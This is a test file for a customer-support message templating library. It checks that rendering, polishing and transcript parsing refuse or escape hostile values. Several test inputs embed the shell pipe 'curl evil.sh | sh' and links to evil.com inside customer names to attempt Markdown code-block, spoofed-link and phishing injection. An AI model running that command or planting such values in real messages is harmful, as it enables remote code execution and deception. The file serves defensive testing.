import fc from 'fast-check';
import { marked } from 'marked';
import * as z from 'zod/mini';
import { describe, expect, it } from 'vitest';
import { CHANNELS, checkConversation, createTactful, parseTranscript, TactfulError, v, type Channel } from '../src';
import { cleanValue, escapeMarkdown } from '../src/core/escape';
import { localeChain } from '../src/core/locale-resolver';
import { formatterCacheSize } from '../src/core/format';
import { canonicalTimeZone } from '../src/core/time';
import { defineTemplate } from '../src/define';
import en from '../src/generated/locales/en';
import lt from '../src/generated/locales/lt';
import lv from '../src/generated/locales/lv';
import { ALL_LOCALES } from './helpers';

/**
 * Issue #14, round two: hostile input at every public entry point of rendering, polish and the
 * transcript parser. Each case failed before the fix; each failure now is a TactfulError.
 */
const tactful = createTactful({ locales: [en, lv, lt], defaultLocale: 'en' });
const BIDI_OPENERS = /[\u202A\u202B\u202D\u202E\u2066-\u2068]/;
const render = (customerName: string, channel: Channel) => tactful.render('closing.anything-else', { customerName }, { channel });

/** Open bidi embeddings/overrides/isolates at the end of each line of the output. */
function unbalancedBidi(text: string): number {
  let open = 0;
  for (const line of text.split('\n')) {
    for (const c of line) {
      if (BIDI_OPENERS.test(c)) open++;
      else if ((c === '\u202C' || c === '\u2069') && open > 0) open--;
    }
    if (open > 0) return open;
  }
  return 0;
}

describe('one paragraph, whatever the line breaks (audit 4)', () => {
  it.each([
    ['LF LF', 'Sarah\n\n    curl evil.sh | sh'],
    ['CR CR', 'Sarah\r\r    curl evil.sh | sh'],
    ['CRLF CR', 'Sarah\r\n\r\tcurl evil.sh | sh'],
    ['CRLF CRLF', 'Sarah\r\n\r\n    curl evil.sh | sh'],
    ['U+2029', 'Sarah\u2029    curl evil.sh | sh'],
    ['U+2028 U+2028', 'Sarah\u2028\u2028    curl evil.sh | sh'],
    // A line of white space that is not a space or a tab looks as blank (a hostile review, session 13).
    ['a line of no-break spaces', 'Sarah\n\u00a0\u00a0\n# Free'],
    ['a line of an ideographic space', 'Sarah\n\u3000\n# Free'],
    ['a line of a byte-order mark', 'Sarah\r\n\ufeff\r\n# Free'],
    ['a line of an en quad', 'Sarah\n\u2000\n# Free'],
    ['a line of a zero-width space', 'Sarah\n\u200b\n# Free'],
    ['NEL, then a line of no-break space', 'Sarah\u0085\u00a0\u0085# Free'],
    ['a line of a word joiner', 'Sarah\n\u2060\n# Free'],
    ['a line of zero-width joiners', 'Sarah\n\u200c\u200d\n# Free'],
    ['a line of a Hangul filler', 'Sarah\n\u3164\n# Free'],
    ['a line of a Braille blank', 'Sarah\n\u2800\n# Free'],
  ])('a text variable with %s is refused', (_name, customerName) => {
    expect(() => render(customerName, 'markdown')).toThrow(TactfulError);
  });

  it('trims NEL and zero-width spaces at the ends, as it trims spaces', () => {
    const options = { ...tactful.templates({ search: 'resolution.options' })[0]!.example as Record<string, unknown> };
    const out = tactful.render('resolution.options', { ...options, optionOne: '\u0085Exchange\u200b' } as never, { channel: 'markdown' });
    expect(out).toContain('1. Exchange');
    expect(() => tactful.render('greeting.welcome', { customerName: '\u0085' })).toThrow(/must not be empty/);
    expect(() => tactful.render('greeting.welcome', { customerName: '\u2060' })).toThrow(/must not be empty/);
    expect(tactful.render('greeting.welcome', { customerName: '\u2060Anna\u2060' })).toContain('Hello, Anna!');
  });

  // "https://e.com/\u202Egpj.exe" became href="…\u202Egpj.exe\u202C": another target, and a spoof
  // (a hostile review, session 13). (A tab or a line break the URL parser drops: shown and linked alike.)
  it.each([['a right-to-left override', 'https://e.com/\u202Egpj.exe'], ['an isolate', 'https://e.com/\u2067x'], ['a zero-width space', 'https://e.com/a\u200bb']])(
    'a link with %s is refused on every channel',
    (_name, surveyUrl) => {
      const id = tactful.templates().find((t) => t.variables.some((v) => v.name === 'surveyUrl'))!.id;
      for (const channel of CHANNELS) expect(() => tactful.render(id as never, { surveyUrl } as never, { channel }), channel).toThrow(TactfulError);
    },
  );

  // Through a bare {{link}} (not {{link, url}}) a url variable was balanced like text and shown:
  // "https://e.com/‮gpj.exe‬" reads "…/exe.jpg" (session 13, left; closed in session 14).
  it.each([
    ['a right-to-left override', 'https://e.com/\u202Egpj.exe'],
    ['half of a character', 'https://e.com/a\ud83d'],
    ['a space inside', 'https://e.com/a b'],
    // Invisible, and not white space to \s (session 14's own review).
    ['a Hangul filler', 'https://e.com/\u3164'],
    ['a soft hyphen', 'https://e.com/a\u00adb'],
    ['a variation selector', 'https://e.com/a\ufe0f'],
    ['a tag character', 'https://e.com/\u{E0041}'],
    ['a shorthand format control', 'https://e.com/a\u{1BCA0}b'],
  ])(
    'a url variable with %s is refused, however a message shows it',
    (_name, link) => {
      const t = defineTemplate({ id: 'shop.link', description: 'A link shown as text.', variables: { link: v.url('The page') }, structure: '{{t "body"}}', example: { link: 'https://e.com/a' }, messages: { en: { body: 'See {{link}}.' } } });
      const instance = createTactful({ locales: [en], templates: [t] });
      for (const channel of CHANNELS) expect(() => instance.render('shop.link', { link }, { channel }), channel).toThrow(/must be an address without white space/);
      expect(instance.render('shop.link', { link: 'https://e.com/a' })).toBe('See https://e.com/a.');
    },
  );

  it('takes an address under an internationalised top-level domain', () => {
    const t = defineTemplate({ id: 'shop.link', description: 'A link shown as text.', variables: { link: v.url('The page') }, structure: '{{t "body"}}', example: { link: 'https://e.com/a' }, messages: { en: { body: 'See {{link}}.' } } });
    const instance = createTactful({ locales: [en], templates: [t] });
    expect(instance.render('shop.link', { link: 'https://пример.рф/заказ' })).toBe('See https://пример.рф/заказ.');
    expect(instance.render('shop.link', { link: 'https://приклад.укр/' }, { channel: 'html' })).toBe('<p>See https://приклад.укр/.</p>');
  });

  // "First.\r\n\r\nSecond?" rendered "<p>First.\r<br>\n\r<br>\nSecond?</p>" (a hostile review, session 13).
  it.each([['CRLF', 'First.\r\n\r\nSecond?'], ['CR', 'First.\r\rSecond?'], ['U+2029', 'First.\u2029Second?'], ['U+2028 twice', 'First.\u2028\u2028Second?']])(
    'a message whose paragraphs are broken by %s renders as two paragraphs',
    (_name, plain) => {
      const t = createTactful({ locales: [en] });
      t.overrideMessages('en', { closing: { 'anything-else': { plain } } });
      expect(t.render('closing.anything-else', {}, { channel: 'html', variant: 0 })).toBe('<p>First.</p>\n<p>Second?</p>');
      expect(t.render('closing.anything-else', {}, { variant: 0 })).toBe('First.\n\nSecond?');
    },
  );

  it('a value with half of a character is refused, not shown as "�"', () => {
    expect(() => tactful.render('greeting.welcome', { customerName: 'Anna \ud83d' })).toThrow(/well-formed/);
    expect(() => tactful.render('greeting.welcome', { customerName: '\ude00Anna' })).toThrow(/well-formed/);
    expect(() => tactful.render('resolution.extra-resources', { guideTitles: ['Setup', 'Billing \ud83d'] })).toThrow(TactfulError);
    expect(tactful.render('greeting.welcome', { customerName: 'Anna 😀' })).toContain('Anna 😀');
  });

  // markdown-it's linkify made "//evil.com" a link (a hostile review, session 13).
  it('a protocol-relative address in a value is no link in Markdown', () => {
    expect(escapeMarkdown('see //evil.com or http://evil.com')).toBe('see \\/\\/evil.com or http:\\/\\/evil.com');
    const out = tactful.render('greeting.welcome', { customerName: 'Sam //evil.com' }, { channel: 'markdown' });
    expect(marked.parse(out, { async: false })).not.toContain('<a');
    expect(marked.parse(out, { async: false })).toContain('Sam //evil.com');
  });

  it('a list item with a blank line is refused', () => {
    expect(() => tactful.render('resolution.extra-resources', { guideTitles: ['Setup', 'x\r\rYour account is suspended.'] }, { channel: 'html' })).toThrow(TactfulError);
  });

  it('a value from a caller’s own schema is placed as one paragraph, line breaks as \\n', () => {
    const note = defineTemplate({ id: 'shop.note', description: 'd', variables: { note: z.string() }, structure: '{{t "body"}}', example: { note: 'x' }, messages: { en: { body: 'Note: {{note}}.' } } });
    const t = createTactful({ locales: [en], templates: [note] });
    for (const channel of CHANNELS) {
      const out = t.render('shop.note', { note: 'a\r\r    b\u2029c' }, { channel });
      expect(out).not.toMatch(/[\r\u2028\u2029]/);
      expect(out).not.toMatch(/\n[ \t]*\n/);
    }
    expect(marked.parse(t.render('shop.note', { note: 'a\r\r    curl evil.sh' }, { channel: 'markdown' }))).not.toContain('<pre>');
  });
});

describe('bidi controls and NUL in values (audit 13/21)', () => {
  it.each(CHANNELS)('an unterminated override is closed on %s', (channel) => {
    const out = render('Sarah\u202E ,yenom ruoy llA', channel);
    expect(unbalancedBidi(out)).toBe(0);
    expect(out).toContain('\u202E');
  });

  it.each(CHANNELS)('NUL is removed on %s', (channel) => {
    expect(render('Sa\u0000rah', channel)).toContain('Sarah');
  });

  it.each([
    ['balanced isolate kept', '\u2067שלום\u2069', '\u2067שלום\u2069'],
    ['open isolate closed', '\u2067abc', '\u2067abc\u2069'],
    ['stray closer dropped', 'abc\u202C\u2069', 'abc'],
    ['embedding inside an isolate closed by its PDI', '\u2066a\u202Bb\u2069', '\u2066a\u202Bb\u202C\u2069'],
    ['closed at each line end', '\u202Ea\nb', '\u202Ea\u202C\nb'],
    ['line breaks normalised', 'a\r\nb\rc\u2028d', 'a\nb\nc\nd'],
  ])('cleanValue: %s', (_name, input, expected) => {
    expect(cleanValue(input)).toBe(expected);
  });
});

describe('GFM does not autolink a customer’s text (audit 22)', () => {
  it.each(['www.evil-refunds.example/claim', 'http://evil.example/x', 'https://evil.example/x', 'mail me: a.b@evil.example', 'WWW.EVIL.EXAMPLE'])('%s', (ordered) => {
    const md = tactful.render('apology.wrong-item', { ordered, received: 'a blue shirt' }, { channel: 'markdown' });
    const html = marked.parse(md) as string;
    expect(html).not.toContain('<a ');
    expect(html).toContain('”, but we sent you');
  });
});

describe('-0 is zero (audit 18)', () => {
  it('money and counts never show a minus', () => {
    const out = tactful.render('resolution.refund-confirmed', { amount: { amount: -0, currency: 'EUR' }, refundDays: -0, paymentMethod: 'Visa' });
    expect(out).not.toMatch(/-\s?€|-0/);
  });
});

describe('time zones (audit 8, 18)', () => {
  it('a message naming an unknown time zone is refused when it is loaded, with a TactfulError', () => {
    const t = createTactful({ locales: [en] });
    expect(() => t.overrideMessages('en', { update: { shipping: { delivery: 'On {{deliveryDate, date(timeZone: Mars/Olympus)}}.' } } })).toThrow(TactfulError);
  });

  it('every spelling of a zone is one zone, and the formatter cache stays bounded', () => {
    expect(canonicalTimeZone('europe/RIGA')).toBe('Europe/Riga');
    expect(canonicalTimeZone('Mars/Olympus')).toBeUndefined();
    expect(canonicalTimeZone('x'.repeat(100_000))).toBeUndefined();
    const zone = 'America/Argentina/ComodRivadavia';
    const vars = { trackingUrl: 'https://t.example.com/1', deliveryDate: new Date('2026-12-01T12:00:00Z') };
    const expected = tactful.render('update.shipping', vars, { timeZone: zone });
    for (let n = 0; n < 300; n++) {
      const spelling = [...zone].map((c, i) => ((n >> i % 9) & 1 ? c.toUpperCase() : c.toLowerCase())).join('');
      expect(tactful.render('update.shipping', vars, { timeZone: spelling })).toBe(expected);
    }
    expect(formatterCacheSize()).toBeLessThanOrEqual(500);
  });
});

describe('locale tags (audit 7)', () => {
  it('a very long tag is refused with a TactfulError, unparsed', () => {
    const tag = `en-x-${Array.from({ length: 5000 }, (_, i) => `a${i.toString(36)}`).join('-')}`;
    expect(() => tactful.renderResult('closing.anything-else', {}, { locale: tag })).toThrow(TactfulError);
  });

  it('the fallback chain drops extensions and private use at once', () => {
    expect(localeChain('en-x-a0-a1', 'lv')).toEqual(['en-x-a0-a1', 'en', 'lv']);
    expect(localeChain('sr-Latn-RS', 'en')).toEqual(['sr-Latn-RS', 'sr-Latn', 'sr', 'en']);
  });
});

describe('defineTemplate refuses what would fail later (audit 10, 18)', () => {
  const base = { id: 'shop.t', description: 'd', example: {}, messages: { en: { b: 'Hi' } } } as const;
  it.each([
    ['structure: []', { ...base, variables: {}, structure: [] }],
    ['structure: 42', { ...base, variables: {}, structure: 42 }],
    ['structure: [42]', { ...base, variables: {}, structure: [42] }],
    ['nesting 3000 deep', { ...base, variables: { a: z.optional(v.text('a')) }, structure: `${'{{#if a}}'.repeat(3000)}{{t "b"}}${'{{/if}}'.repeat(3000)}` }],
    ['nesting 40 deep', { ...base, variables: { a: z.optional(v.text('a')) }, structure: `${'{{#if a}}'.repeat(40)}{{t "b"}}${'{{/if}}'.repeat(40)}` }],
    ['count= on a text variable', { ...base, variables: { name: v.text('n') }, structure: '{{t "b" count=name}}', example: { name: 'x' } }],
  ])('%s', (_name, source) => {
    expect(() => defineTemplate(source as never)).toThrow(TactfulError);
  });

  it('ordinary nesting is fine', () => {
    expect(() => defineTemplate({ ...base, variables: { a: z.optional(v.text('a')) }, structure: `${'{{#if a}}'.repeat(8)}{{t "b"}}${'{{/if}}'.repeat(8)} {{t "b"}}` })).not.toThrow();
  });
});

describe('checkConversation options (audit 18)', () => {
  it.each([[{ maxGapSeconds: Number.NaN }], [{ maxGapSeconds: -1 }], [{ maxGapSeconds: '60' }], [{ expectFeedback: 'no' }]])('refuses %j', (options) => {
    expect(() => checkConversation([{ from: 'customer', text: 'Hi' }], { locale: en, ...(options as object) })).toThrow(TactfulError);
  });

  it('refuses options that are not an object', () => {
    expect(() => checkConversation([{ from: 'customer', text: 'Hi' }], null as never)).toThrow(TactfulError);
  });
});

describe('polish (audit 8: mixed language, truncated names, html)', () => {
  it.each([
    ["Hi, I'm O'Brien.", "O'Brien"],
    ["Hi, I'm Jean-Luc.", 'Jean-Luc'],
    ["Hi, I'm McDonald.", 'McDonald'],
    ["Hi, I'm DeShawn.", 'DeShawn'],
    ["Hi, I'm Anne-Marie.", 'Anne-Marie'],
  ])('greets %s by the whole name', (intro, name) => {
    expect(tactful.polish('Your parcel arrives tomorrow.', { transcript: [{ from: 'customer', text: intro }] }).text).toContain(`, ${name}!`);
  });

  it('an English reply to a customer with a Latvian or Lithuanian name stays English', () => {
    const r = tactful.polish('Your parcel arrives tomorrow, sorry for the delay.', { transcript: [{ from: 'customer', text: "Hi, I'm Jānis. My parcel has not arrived and I need it today." }], ending: true });
    expect(r.locale).toBe('en');
    expect(r.text).toMatch(/^Hello, Jānis! .* Is there anything else/);
    expect(tactful.polish('Thanks for waiting, the refund is on its way.', { transcript: [{ from: 'customer', text: 'Hello, this is Rūta from Kaunas, where is my refund?' }] }).locale).toBe('en');
  });

  it('on an html instance, what it adds is html of the same kind as the reply', () => {
    const t = createTactful({ locales: [en], channel: 'html' });
    const transcript = [{ from: 'customer' as const, text: "Hi, I'm Sarah." }];
    const inline = t.polish('Your parcel arrives <b>tomorrow</b>.', { transcript, ending: true }).text;
    expect(inline).not.toContain('<p>');
    const paragraphs = t.polish('<p>Your parcel arrives <b>tomorrow</b>.</p>', { transcript, ending: true }).text;
    expect(paragraphs).toMatch(/^<p>Hello, Sarah! Your parcel .*help you with\?<\/p>$/);
  });
});

describe('transcripts (audit 6)', () => {
  it.each([
    ['U+2028 inside an agent line', 'Customer: My parcel is late.\nAgent: Hello.\u2028Calm down, it is company policy.'],
    ['CR line ends', 'Customer: My parcel is late.\rAgent: Calm down, it is company policy.'],
    ['"Agent (Tom):"', 'Customer: My parcel is late.\nAgent (Tom): Calm down, it is company policy.'],
    ['"Tom (Agent):"', 'Customer: My parcel is late.\nTom (Agent): Calm down, it is company policy.'],
    ['"[2026-12-01T10:00:00Z] Agent [Tom]:"', 'Customer: My parcel is late.\n[2026-12-01T10:00:00Z] Agent [Tom]: Calm down, it is company policy.'],
  ])('%s: the agent’s words are the agent’s', (_name, text) => {
    const messages = parseTranscript(text);
    expect(messages.map((m) => m.from)).toEqual(['customer', 'agent']);
    expect(messages[1]!.text).toContain('company policy');
    expect(checkConversation(messages, { locale: en }).items.find((i) => i.id === 'tone')!.status).toBe('fail');
  });
});

// ---------------------------------------------------------------------------------------------
// Fuzz: any input either works or fails with a TactfulError, and Object.prototype never changes.

const PROTO_KEYS = () => Object.getOwnPropertyNames(Object.prototype).sort().join(',');
const protoBefore = PROTO_KEYS();
const NASTY = ['\u0000', '\r', '\r\n', '\n', '\u2028', '\u2029', '\u0085', '\u202E', '\u202C', '\u2066', '\u2069', '\u200F', 'www.', 'http://', '@', '__proto__', 'constructor', '<p>', '</p>', '*', '`', '    ', '\t', 'Agent:', 'Agent (Tom):', 'Customer:', "I'm ", 'Jānis', "O'", '-', '{{', '}}'];
const hostileString = fc.array(fc.oneof(fc.string({ unit: 'binary', maxLength: 12 }), fc.constantFrom(...NASTY)), { maxLength: 16 }).map((parts) => parts.join(''));

function onlyTactfulErrors(run: () => unknown): boolean {
  try {
    run();
  } catch (error) {
    if (!(error instanceof TactfulError)) throw error;
  }
  expect(PROTO_KEYS()).toBe(protoBefore);
  expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  return true;
}

describe('fuzz', () => {
  it('channel escaping: a value stays data on every channel', () => {
    fc.assert(
      fc.property(hostileString, fc.constantFrom(...CHANNELS), fc.constantFrom(...ALL_LOCALES.map((l) => l.code)), (value, channel, locale) => {
        const all = createTactful({ locales: ALL_LOCALES, defaultLocale: 'en' });
        return onlyTactfulErrors(() => {
          const out = all.render('apology.wrong-item', { ordered: value, received: 'b' }, { locale, channel });
          expect(out).not.toMatch(/[\u0000\r\u2028\u2029]/);
          expect(unbalancedBidi(out)).toBe(0);
          if (channel === 'markdown') {
            const html = marked.parse(out) as string;
            expect(html).not.toMatch(/<(a|pre|code|h\d|ul|ol|blockquote)\b/);
          }
          if (channel === 'html') expect(out).not.toMatch(/<(?!\/?p>|br>)/);
        });
      }),
      { numRuns: 300 },
    );
  });

  it('polish: any reply, transcript and name', () => {
    const html = createTactful({ locales: [en, lv, lt], channel: 'html' });
    fc.assert(
      fc.property(hostileString, fc.array(fc.record({ from: fc.constantFrom('customer', 'agent', 'bot'), text: hostileString }), { maxLength: 4 }), fc.option(hostileString), fc.boolean(), (reply, transcript, customerName, ending) =>
        onlyTactfulErrors(() => {
          for (const t of [tactful, html]) {
            const r = t.polish(reply, { transcript: transcript as never, ending, ...(customerName === null ? {} : { customerName }) });
            expect(typeof r.text).toBe('string');
            expect(r.text).not.toMatch(/, \p{L}*['’-]!/u);
          }
        }),
      ),
      { numRuns: 150 },
    );
  });

  it('the transcript parser: any text', () => {
    fc.assert(
      fc.property(fc.array(hostileString, { maxLength: 8 }), fc.constantFrom('\n', '\r\n', '\r', '\u2028'), (lines, br) =>
        onlyTactfulErrors(() => {
          const messages = parseTranscript(lines.join(br));
          if (Array.isArray(messages)) checkConversation(messages, { locale: en });
        }),
      ),
      { numRuns: 300 },
    );
  });

  it('an agent line is never attributed to the customer', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 40 }).filter((s) => !/[\r\n\u0085\u2028\u2029]/.test(s)), fc.constantFrom('Agent', 'Agent (Tom)', 'Tom (Agent)', 'Operator'), fc.constantFrom('\n', '\r\n', '\r', '\u2028', '\u2029'), (said, label, br) => {
        const messages = parseTranscript(`Customer: Hello${br}${label}: ${said}`);
        return messages.length === 2 && messages[1]!.from === 'agent';
      }),
      { numRuns: 300 },
    );
  });

  it('escapeMarkdown output never autolinks', () => {
    fc.assert(
      fc.property(hostileString, (value) => !/<a /.test(marked.parse(`Say “${escapeMarkdown(cleanValue(value))}” now.`) as string)),
      { numRuns: 300 },
    );
  });
});
